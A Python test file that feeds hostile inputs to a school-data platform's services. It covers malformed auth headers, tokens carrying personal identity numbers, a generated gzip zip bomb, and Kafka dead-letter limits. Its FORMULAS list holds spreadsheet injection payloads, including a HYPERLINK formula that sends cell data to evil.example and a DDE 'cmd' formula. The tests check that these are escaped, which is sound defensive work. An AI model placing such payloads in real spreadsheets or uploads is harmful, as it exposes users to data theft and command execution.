"""Hostile inputs, second round: what the first round (test_hostile_http, test_hostile_events,
test_hostile_logs, the SS 12000 hostile servers, the schemathesis fuzz) did not try.

- HTTP, on every service as a running process: `Authorization` in odd forms (two headers, `Bearer`
  twice, tokens from the issuer whose `sub`/`azp` carry a personal identity number in any spelling,
  a NUL, a lone surrogate, or scope claims the challenge header would repeat), `Content-Encoding`
  (gzip, a zip bomb, br), HEAD and other methods on every operation, the framework's own refusals
  (an unknown path, a method a path does not answer, a body that is not UTF-8, a chunked body over
  the limit): each a 4xx problem+json naming the field and the rule, never a 5xx, and no personal
  identity number repeated, in the body or in a header.
- Files: the dashboard's CSV and xlsx downloads with text a spreadsheet would run as a formula;
  the SS 12000 folder import with a byte order mark, another encoding, deep nesting, a file over
  the limit.
- Events: a record at the broker's size limit, between good ones: dead-lettered (cut to what a
  dead letter may hold, saying so), the good ones applied — before, the dead letter could not be
  sent and the consumer stopped on that record for good.
"""

from __future__ import annotations

import asyncio
import gzip
import io
import json
import uuid
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from aiokafka import AIOKafkaProducer
from openpyxl import load_workbook
from test_hostile_events import applied_ids, encoded, fresh_reporting, good, read_dead_letters, reporting_loop
from test_hostile_http import PINS, fill, raw_request
from test_openapi_fuzz import BROAD_ROLES, ORGANISER, RunningService, auth

from styrkedja_cli.ss12000.source import FolderSource, SourceError
from styrkedja_contracts import dead_letter_topic
from styrkedja_contracts.identifiers import contains_personal_identity_number
from styrkedja_dashboard.downloads import csv_response, xlsx_response
from styrkedja_kit.auth.principal import InvalidClaims, principal_from_claims
from styrkedja_kit.consumer import DEAD_LETTER_MAX_BYTES, within_dead_letter_size
from styrkedja_kit.db import Database

PIN = "19121212-1212"
PROBLEM = "application/problem+json"


# -- HTTP ------------------------------------------------------------------------------------------


@pytest.fixture
def client(running: tuple[str, RunningService]) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=running[1].url, timeout=60) as http:
        yield http


def operations(http: httpx.Client, issuer: Any) -> list[tuple[str, str, dict[str, Any]]]:
    document = http.get("/openapi.json", headers=auth(issuer)).json()
    return [(method.upper(), path, operation) for path, item in document["paths"].items()
            if path not in ("/readyz", "/metrics")
            for method, operation in item.items() if method in ("get", "post", "put", "patch", "delete")]


def wrong_answer(what: str, response: httpx.Response, *, status: int | None = None, field: str | None = None,
                 rule: str | None = None) -> list[str]:
    """What is wrong with a refusal: not a 4xx problem+json, not the status, field or rule expected,
    a personal identity number anywhere in it (body or headers)."""
    wrong = []
    said = response.text + " ".join(f"{k}: {v}" for k, v in response.headers.items())
    if contains_personal_identity_number(said):
        wrong.append(f"{what}: repeats a personal identity number: {said[:300]!r}")
    if not 400 <= response.status_code < 500 or (status is not None and response.status_code != status):
        wrong.append(f"{what}: {response.status_code}, not {status or '4xx'}: {response.text[:200]!r}")
        return wrong
    if not response.headers.get("content-type", "").startswith(PROBLEM):
        wrong.append(f"{what}: {response.headers.get('content-type')} is not problem+json")
        return wrong
    if field is not None or rule is not None:
        errors = response.json().get("errors") or []
        if not any((field is None or e["field"] == field) and (rule is None or e["rule"] == rule) for e in errors):
            wrong.append(f"{what}: no error naming {field}/{rule}: {errors}")
    return wrong


def hostile_claims() -> dict[str, dict[str, Any]]:
    """Claims an identity provider might put in a token it signs, that no service may take in."""
    out: dict[str, dict[str, Any]] = {f"sub {pin!r}": {"subject": pin} for pin in PINS}
    out |= {f"sub 'user {pin}'": {"subject": f"user {pin}"} for pin in PINS[:3]}
    out |= {
        "azp a personal identity number": {"subject": "someone", "client_id": PIN},
        "sub with a NUL": {"subject": "a\x00b"},
        "sub with a lone surrogate": {"subject": "a\ud800b"},
        "sub of 10,000 characters": {"subject": "s" * 10_000},
        "groups claim a personal identity number": {"subject": "someone", "groups": [PIN]},
        "groups claim full-width": {"subject": "someone", "groups": [PINS[8]]},
        "school_units claim a personal identity number": {"subject": "someone", "school_units": [PIN]},
        "groups claim beyond latin-1": {"subject": "someone", "groups": ["\u4e00\u4e8c/\U0001f600"]},
    }
    return out


@pytest.mark.integration
@pytest.mark.postgres_only
def test_authorization_in_odd_forms_and_tokens_with_personal_data_are_refused(client, token_issuer):
    """Two `Authorization` headers (a proxy in front and the service could each take another one),
    `Bearer` twice, and tokens the issuer signed whose subject or client would be stored (audit trail,
    `changed_by`, `acknowledged_by`) but carries a personal identity number, a NUL or a lone surrogate:
    a 401 problem on every operation, nothing repeated — not in the `WWW-Authenticate` header either."""
    good_header = auth(token_issuer)["Authorization"]
    headers: dict[str, list[tuple[str, str]]] = {
        "two headers, the good one first": [("authorization", good_header), ("authorization", "Bearer x.y.z")],
        "two headers, the good one last": [("authorization", "Bearer x.y.z"), ("authorization", good_header)],
        "the same good header twice": [("authorization", good_header), ("authorization", good_header)],
        "Bearer twice": [("authorization", "Bearer " + good_header)],
    }
    for name, claims in hostile_claims().items():
        token = token_issuer.mint(roles=BROAD_ROLES, organisers=[ORGANISER], school_units=claims.pop(
            "school_units", ["29990011"]), **claims)
        headers[name] = [("authorization", f"Bearer {token}")]
    wrong: list[str] = []
    sent = 0
    for method, path, operation in operations(client, token_issuer):
        if path == "/healthz":
            continue
        body = {"content": b"{}", "headers": [("content-type", "application/json")]} if "requestBody" in operation \
            else {"headers": []}
        for name, sent_headers in headers.items():
            sent += 1
            try:
                response = client.request(method, fill(path), content=body.get("content"),
                                          headers=[*body["headers"], *sent_headers])
            except httpx.HTTPError as error:  # the server hung up: a crash as far as a client can tell
                wrong.append(f"{method} {path} {name}: {type(error).__name__}: {error}")
                continue
            wrong += wrong_answer(f"{method} {path} {name}", response, status=401)
            if response.status_code == 401 and 'error="' not in response.headers.get("www-authenticate", ""):
                wrong.append(f"{method} {path} {name}: a challenge without the error: "
                             f"{response.headers.get('www-authenticate')}")
    assert not wrong, f"{len(wrong)} of {sent} wrong:\n" + "\n".join(wrong[:40])


def test_a_subject_or_client_with_personal_data_is_not_a_principal():
    """The rule where every service takes its caller from: `principal_from_claims`."""
    refused = [{"sub": pin} for pin in PINS] + [{"sub": "a", "azp": pin} for pin in PINS] + [
        {"sub": "a", "client_id": PIN}, {"sub": "a\x00"}, {"sub": "\ud800"}, {"sub": "x" * 256},
        {"sub": "a", "azp": "b\x1b[31m"}]
    for claims in refused:
        with pytest.raises(InvalidClaims) as raised:
            principal_from_claims({**claims, "roles": ["ops"]})
        assert not contains_personal_identity_number(str(raised.value)), claims
        assert "\x00" not in str(raised.value)
    kept = principal_from_claims({"sub": "f3c1e2d4-0000-4000-8000-000000000001", "azp": "platform-unikum",
                                  "roles": ["platform"]})
    assert (kept.subject, kept.client_id) == ("f3c1e2d4-0000-4000-8000-000000000001", "platform-unikum")


def zip_bomb() -> bytes:
    return gzip.compress(b"[" + b" " * (64 * 1024 * 1024) + b"]", compresslevel=9)


@pytest.mark.integration
@pytest.mark.postgres_only
def test_a_body_with_a_content_coding_or_another_charset_is_refused_as_415(client, token_issuer):
    """The services read bodies as sent: a gzip body was read as (not) JSON, a JSON body marked gzip
    was taken as plain. Now every content coding but identity is a 415 naming `content-encoding`
    (with `Accept-Encoding: identity`, RFC 7694), before any byte of the body is read — a zip bomb
    is never unpacked; so is a transfer coding other than chunked (`Transfer-Encoding: gzip, chunked`:
    the chunks were unframed and the gzip inside taken as the body). Likewise JSON declared in another charset than UTF-8 (RFC 8259 §8.1): it was
    read as UTF-8 by some operations (a 400 or 422 about the bytes) and taken by others."""
    bomb = zip_bomb()
    wrong: list[str] = []
    sent = 0
    for method, path, operation in operations(client, token_issuer):
        if "requestBody" not in operation:
            continue
        for coding, body in [("gzip", gzip.compress(b'{"items": []}')), ("gzip", bomb), ("gzip", b'{"items": []}'),
                             ("br", b'{"items": []}'), ("deflate, gzip", b"{}"), ("x-unknown", b"{}")]:
            response = client.request(method, fill(path), content=body, headers={
                **auth(token_issuer), "content-type": "application/json", "content-encoding": coding})
            sent += 1
            wrong += wrong_answer(f"{method} {path} content-encoding {coding} ({len(body)} bytes)", response,
                                  status=415, field="content-encoding", rule="identity_encoding")
            if response.status_code == 415 and response.headers.get("accept-encoding") != "identity":
                wrong.append(f"{method} {path} {coding}: no Accept-Encoding: identity")
        for charset in ("latin-1", "utf-16", "iso-8859-1", '"windows-1252"'):
            response = client.request(method, fill(path), content='{"a": "Åsa"}'.encode(charset.strip('"')),
                                      headers={**auth(token_issuer),
                                               "content-type": f"application/json; charset={charset}"})
            sent += 1
            wrong += wrong_answer(f"{method} {path} charset {charset}", response, status=415, field="content-type",
                                  rule="utf8_charset")
        for transfer in (b"gzip, chunked", b"deflate,chunked", b"x-custom, chunked"):
            answer = raw_request(str(client.base_url), method.encode() + b" " + fill(path).encode() + b" HTTP/1.1\r\n"
                                 b"Host: h\r\nAuthorization: " + auth(token_issuer)["Authorization"].encode() +
                                 b"\r\nContent-Type: application/json\r\nTransfer-Encoding: " + transfer +
                                 b"\r\nConnection: close\r\n\r\n2\r\n{}\r\n0\r\n\r\n")
            sent += 1
            head, _, body_sent = answer.partition(b"\r\n\r\n")
            if not head.startswith(b"HTTP/1.1 415") or b'"rule":"identity_encoding"' not in body_sent:
                wrong.append(f"{method} {path} transfer-encoding {transfer!r}: {answer[:200]!r}")
        plain = client.request(method, fill(path), content=b"{}", headers={
            **auth(token_issuer), "content-type": "application/json", "content-encoding": "identity"})
        if plain.status_code == 415:
            wrong.append(f"{method} {path}: identity refused")
    assert sent, "no operation takes a body"
    assert not wrong, f"{len(wrong)} of {sent} wrong:\n" + "\n".join(wrong[:40])


@pytest.mark.integration
@pytest.mark.postgres_only
def test_head_is_get_without_a_body_and_other_methods_are_405_with_allow(client, token_issuer):
    """HEAD on every operation that answers GET: the GET's status and headers, no body (it was a
    405). Any other method a path does not answer: 405 problem naming the method, with the `Allow`
    header RFC 9110 requires (it was dropped)."""
    wrong: list[str] = []
    by_path: dict[str, set[str]] = {}
    for method, path, _operation in operations(client, token_issuer):
        by_path.setdefault(path, set()).add(method)
    for path, methods in by_path.items():
        url = fill(path)
        if "GET" in methods:
            got = client.get(url, headers=auth(token_issuer))
            head = client.head(url, headers=auth(token_issuer))
            if head.status_code != got.status_code or head.content:
                wrong.append(f"HEAD {path}: {head.status_code} with {len(head.content)} bytes; GET {got.status_code}")
            if head.headers.get("content-type") != got.headers.get("content-type"):
                wrong.append(f"HEAD {path}: {head.headers.get('content-type')}, GET {got.headers.get('content-type')}")
        for other in sorted({"GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"} - methods):
            response = client.request(other, url, headers={**auth(token_issuer), "content-type": "application/json"},
                                      content=b"{}" if other in ("POST", "PUT", "PATCH") else None)
            if response.status_code != 405:  # another operation's path template matches (`/x/{id}`, `/x/published`)
                wrong += wrong_answer(f"{other} {path}", response)
                continue
            wrong += wrong_answer(f"{other} {path}", response, status=405, field="method", rule="method_not_allowed")
            allowed = {m.strip() for m in response.headers.get("allow", "").split(",") if m.strip()}
            expected = methods | ({"HEAD"} if "GET" in methods else set())
            if not expected <= allowed or other in allowed:
                wrong.append(f"{other} {path}: Allow {sorted(allowed)}, not {sorted(expected)}")
    assert not wrong, "\n".join(wrong[:40])


@pytest.mark.integration
@pytest.mark.postgres_only
def test_the_frameworks_own_refusals_name_the_field_and_the_rule(client, token_issuer):
    """What the framework refuses before a route runs was a problem without `errors`: an unknown path
    (404), a body that is not UTF-8 (400), a chunked body over the limit (413)."""
    wrong: list[str] = []
    token = auth(token_issuer)
    wrong += wrong_answer("unknown path", client.get("/v1/nothing-here", headers=token), status=404,
                          field="path", rule="no_such_route")
    wrong += wrong_answer("very long path", client.get("/v1/" + "a/" * 4000, headers=token), status=404,
                          field="path", rule="no_such_route")
    for method, path, operation in operations(client, token_issuer):
        if "requestBody" not in operation:
            continue
        for label, body in [("latin-1", '{"comment": "Åsa"}'.encode("latin-1")), ("binary", b"\x1f\x8b\x08\x00\xff"),
                            ("utf-16", '{"a": 1}'.encode("utf-16"))]:
            response = client.request(method, fill(path), content=body,
                                      headers={**token, "content-type": "application/json"})
            if response.status_code == 400:
                wrong += wrong_answer(f"{method} {path} {label}", response, field="body", rule="json_invalid")
            else:  # read as JSON after all (json.loads detects UTF-16): refused by the body's rules
                wrong += wrong_answer(f"{method} {path} {label}", response)

        def over_the_limit() -> Iterator[bytes]:
            yield b'{"items": ['
            for _ in range(4 * 1024 * 1024 // 65536 + 2):
                yield b'"' + b"x" * 65530 + b'",'
            yield b'""]}'

        response = client.request(method, fill(path), content=over_the_limit(),
                                  headers={**token, "content-type": "application/json"})
        wrong += wrong_answer(f"{method} {path} chunked over the limit", response, status=413, field="body",
                              rule="max_body_bytes")
    assert not wrong, "\n".join(wrong[:40])


# -- files -----------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Klicka")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1",
            "\r=1+1", "=cmd|' /C calc'!A0"]


def test_the_dashboards_csv_never_holds_a_formula():
    """An alert's comment (typed by a principal) and an action plan's owner go to the dashboard's
    CSV downloads: a text a spreadsheet reads as a formula gets a leading `'`."""
    response = csv_response("larm", ["Kommentar", "Andel"], [[text, 0.5] for text in FORMULAS] + [["vanlig", -0.25]])
    rows = response.body.decode("utf-8-sig").split("\r\n")[1:-1]
    cells = [row.rsplit(";", 1)[0].strip('"') for row in rows]
    assert all(cell.startswith("'") for cell in cells[:-1]), cells
    assert cells[-1] == "vanlig" and rows[-1].endswith(";-0,25"), rows[-1]


def test_the_dashboards_xlsx_never_holds_a_formula():
    """The dashboard's xlsx wrote text with `write`, which makes `=...` a formula cell."""
    response = xlsx_response("larm", ["=Kommentar", "Andel"], [[text, 0.5] for text in FORMULAS])
    sheet = load_workbook(io.BytesIO(response.body)).active
    assert sheet is not None
    assert sheet.cell(1, 1).data_type == "s" and sheet.cell(1, 1).value == "=Kommentar"
    for row, text in enumerate(FORMULAS, start=2):
        cell = sheet.cell(row, 1)
        assert cell.data_type == "s", (text, cell.data_type, cell.value)
        assert isinstance(cell.value, str) and cell.value.endswith(text.lstrip("\t\r")), (text, cell.value)


def folder_with(tmp_path: Any, raw: bytes) -> FolderSource:
    (tmp_path / "organisations.json").write_bytes(raw)
    return FolderSource(tmp_path)


def read_organisations(source: FolderSource) -> list[Any]:
    return source.read("organisations", None, lambda _entity, _count: None)


ORGANISATIONS = {"data": [{"id": str(uuid.uuid4()), "displayName": "Mittköpings kommun",
                           "organisationType": "Huvudman", "organisationCode": "2980"}]}


def test_an_ss12000_folder_dump_saved_with_a_byte_order_mark_is_read(tmp_path):
    """Windows tools save UTF-8 with a BOM; the API source read it, the folder source refused it."""
    plain = read_organisations(folder_with(tmp_path, json.dumps(ORGANISATIONS, ensure_ascii=False).encode()))
    with_bom = read_organisations(folder_with(tmp_path, b"\xef\xbb\xbf" + json.dumps(
        ORGANISATIONS, ensure_ascii=False).encode()))
    assert with_bom == plain and len(plain) == 1


@pytest.mark.parametrize("label, raw, rule", [
    ("latin-1", json.dumps(ORGANISATIONS, ensure_ascii=False).encode("latin-1"), "not UTF-8"),
    ("utf-16", json.dumps(ORGANISATIONS).encode("utf-16"), "not UTF-8"),
    ("deep nesting", b"[" * 200_000 + b"]" * 200_000, "not readable JSON"),
    ("a personal identity number in broken JSON", b'{"data": [{"civicNo": "' + PIN.encode() + b'"', "not readable JSON"),
])
def test_an_ss12000_folder_file_that_cannot_be_read_stops_the_import_naming_it(tmp_path, label, raw, rule):
    """Deep nesting was a RecursionError (a traceback, not the import's error); every refusal names the
    file and the rule, never the content."""
    with pytest.raises(SourceError) as raised:
        read_organisations(folder_with(tmp_path, raw))
    assert "organisations.json" in str(raised.value) and rule in str(raised.value), str(raised.value)
    assert not contains_personal_identity_number(str(raised.value))


def test_an_ss12000_folder_file_over_the_limit_is_refused_before_it_is_read(tmp_path):
    (tmp_path / "organisations.json").write_bytes(b" " * 2048 + json.dumps(ORGANISATIONS).encode())
    with pytest.raises(SourceError, match="larger than 1024 bytes"):
        read_organisations(FolderSource(tmp_path, max_page_bytes=1024))


# -- events ----------------------------------------------------------------------------------------


def test_a_dead_letter_is_cut_to_what_a_dead_letter_may_hold():
    assert within_dead_letter_size(b"2999", b"x" * 100) == (b"2999", b"x" * 100, 0)
    key, value, cut = within_dead_letter_size(b"2999", b"x" * (DEAD_LETTER_MAX_BYTES + 5000))
    assert key == b"2999" and len(key) + len(value or b"") == DEAD_LETTER_MAX_BYTES and cut == 5004
    key, value, cut = within_dead_letter_size(b"k" * DEAD_LETTER_MAX_BYTES, b"v" * 10)
    assert len(key or b"") == DEAD_LETTER_MAX_BYTES // 4 and value == b"v" * 10
    assert cut == DEAD_LETTER_MAX_BYTES + 10 - len(key or b"") - 10
    assert within_dead_letter_size(None, None) == (None, None, 0)


@pytest.mark.integration
async def test_a_record_at_the_brokers_size_limit_is_dead_lettered_and_the_pipeline_goes_on(infrastructure):
    """A record of just under Kafka's default `max.message.bytes` (1 MiB) is `oversized`; its dead
    letter (the same bytes plus the dlq headers) was larger than the producer sends, the send
    failed, and the consumer restarted on the same batch for ever: nothing after it (nor before it
    in its batch) was applied. Now the dead letter holds its first bytes and says how many were cut
    (`dlq.truncated`); so does one with a key of a megabyte. Around them: records with huge,
    non-UTF-8 and forged `dlq.*` headers (good: applied; bad: dead-lettered with our headers), and
    one event's bytes on two partitions (applied once, not dead-lettered)."""
    bootstrap = infrastructure.kafka_bootstrap_servers
    topic, event_type = "styrkedja.assessments", "se.styrkedja.assessment.published.v1"
    settings = await fresh_reporting(infrastructure, "round2")  # its topics made, the group at their end
    database_url, group = settings.database_url, settings.consumer_group
    before, after, decorated, twin = (good(event_type) for _ in range(4))
    big = good(event_type)
    big["data"]["note"] = ""
    big["data"]["note"] = "x" * (1_048_400 - len(encoded(big)))
    big_value = encoded(big)
    assert len(big_value) == 1_048_400  # Apache Kafka's default max.message.bytes (1,048,588) takes it
    odd_headers = [("trace", b"x" * 500_000), ("\u00e5\u00e4\u00f6", b"\xff\xfe\x00"), ("dlq.reason", b"forged"),
                   ("dlq.topic", b"\xff")]
    records: list[tuple[bytes | None, bytes | None, int, list[tuple[str, bytes]]]] = [
        (b"2999", encoded(before), 0, []),
        (b"2999", big_value, 0, []),  # at the size limit
        (b"2999", encoded(decorated), 0, odd_headers),  # good, with huge, non-UTF-8 and forged headers
        (b"2999", b"\x00 not json", 0, odd_headers),  # bad, with the same headers
        (b"k" * 1_000_000, b"not json either", 0, []),  # bad, with a key of a megabyte
        (b"2999", encoded(twin), 1, []),  # one event (the same bytes) on two partitions: applied once
        (b"2999", encoded(twin), 2, []),
        (b"2999", encoded(after), 0, []),
    ]
    producer = AIOKafkaProducer(bootstrap_servers=bootstrap, max_request_size=8 * 1024 * 1024)
    await producer.start()
    try:
        placed = [await (await producer.send(topic, value=value, key=key, partition=partition, headers=headers))
                  for key, value, partition, headers in records]
    finally:
        await producer.stop()
    where = [(p.topic, p.partition, p.offset) for p in placed]
    where_big, hostile = where[1], {where[1]: "oversized", where[3]: "undecodable", where[4]: "undecodable"}

    database = Database(database_url, pool_size=3)
    loop = reporting_loop(settings, database, [topic])
    task = asyncio.create_task(loop.run())
    try:
        dead = await read_dead_letters(bootstrap, dead_letter_topic(group), set(hostile), timeout=90)
        wanted = {uuid.UUID(e["id"]) for e in (before, after, decorated, twin)}
        applied = await applied_ids(database, group, wanted)
    finally:
        loop.stop()
        await task
        await database.dispose()
    assert wanted <= applied, "good events around the hostile ones were not applied"
    # only this test's records are judged: on the embedded broker the group's start at the log end rests
    # on ListOffsets "latest", which can lie, so other tests' hostile records on the shared topic may be
    # read (and rightly dead-lettered) too
    letters = {place: (headers, value) for place, headers, value in dead if place in set(where)}
    assert set(letters) == set(hostile), (sorted(letters), sorted(hostile))
    for place, reason in hostile.items():
        assert letters[place][0]["dlq.reason"] == reason, (place, letters[place][0])
        assert letters[place][0]["dlq.topic"] == topic  # ours, not the record's forged header
    headers, value = letters[where_big]
    assert int(headers["dlq.truncated"]) == len(big_value) - len(value) > 0
    assert big_value.startswith(value) and len(value) + len(b"2999") <= DEAD_LETTER_MAX_BYTES
    assert int(letters[where[4]][0]["dlq.truncated"]) == 1_000_000 - DEAD_LETTER_MAX_BYTES // 4
